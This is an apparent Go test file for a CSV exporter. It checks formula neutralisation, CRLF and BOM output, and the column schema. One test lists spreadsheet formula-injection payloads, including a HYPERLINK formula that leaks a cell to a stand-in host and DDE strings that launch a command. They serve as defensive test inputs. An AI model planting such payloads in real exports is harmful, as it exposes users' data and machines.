package csvexport

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/safetysearch/safetysearch/indexer/article"
)

func write(t *testing.T, opts Options, arts ...article.Article) string {
	t.Helper()
	var buf bytes.Buffer
	w := NewWriter(&buf, opts)
	for _, a := range arts {
		if err := w.Write(a); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func TestFormulaCellsAreNeutralised(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	for _, p := range payloads {
		a := article.Article{ID: "s:r1", Title: p, Author: p, Summary: p, Tags: []string{p}}
		recs, err := csv.NewReader(strings.NewReader(write(t, Options{}, a))).ReadAll()
		if err != nil {
			t.Fatalf("%q: read back: %v", p, err)
		}
		row := recs[1]
		for i, name := range Header {
			if name == "title" || name == "author" || name == "summary" || name == "tags" {
				if !strings.HasPrefix(row[i], "'") {
					t.Errorf("payload %q: column %s = %q, not neutralised", p, name, row[i])
				}
			}
		}
	}
	for _, safe := range []string{"", "PSIRF", "'quoted", "1-2", "a=b"} {
		if got := Neutralise(safe); got != safe {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", safe, got)
		}
	}
}

func TestCRLFAndBOM(t *testing.T) {
	a := article.Article{ID: "s:r1", Title: "Line\none", Published: time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)}
	out := write(t, Options{}, a)
	if strings.HasPrefix(out, BOM) {
		t.Error("BOM written without Options.BOM")
	}
	if strings.Count(out, "\r\n") < 2 || strings.Contains(strings.ReplaceAll(out, "\r\n", ""), "\n") {
		t.Errorf("records are not CRLF-terminated: %q", out)
	}
	withBOM := write(t, Options{BOM: true}, a)
	if !strings.HasPrefix(withBOM, BOM+"id,") {
		t.Errorf("BOM missing: %q", withBOM[:10])
	}
	empty := write(t, Options{BOM: true})
	if empty != BOM+strings.Join(Header, ",")+"\r\n" {
		t.Errorf("empty export = %q, want the BOM and the header only", empty)
	}
}

func TestRowSchema(t *testing.T) {
	pub := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	a := article.Article{
		ID: "s:r1", URL: "https://x.example/r1", Source: "s", Title: "T", Published: pub,
		Tags: []string{"UK", "PSIRF"}, Reactions: 3,
		Attachments: []article.Attachment{{Name: "a.pdf", URL: "https://x.example/a.pdf"}},
		Comments:    []article.Comment{{ID: "1", Author: "A", Body: "c"}},
	}
	row, err := Row(a)
	if err != nil {
		t.Fatal(err)
	}
	if len(row) != len(Header) {
		t.Fatalf("row has %d cells, header %d", len(row), len(Header))
	}
	cell := map[string]string{}
	for i, h := range Header {
		cell[h] = row[i]
	}
	for k, want := range map[string]string{
		"published": "2024-03-05T10:00:00Z", "updated": "", "tags": "UK; PSIRF", "reactions": "3",
		"attachments": "a.pdf <https://x.example/a.pdf>", "comment_count": "1",
	} {
		if cell[k] != want {
			t.Errorf("%s = %q, want %q", k, cell[k], want)
		}
	}
	if !strings.HasPrefix(cell["comments"], `[{"id":"1"`) {
		t.Errorf("comments = %q, want the JSON array", cell["comments"])
	}
}
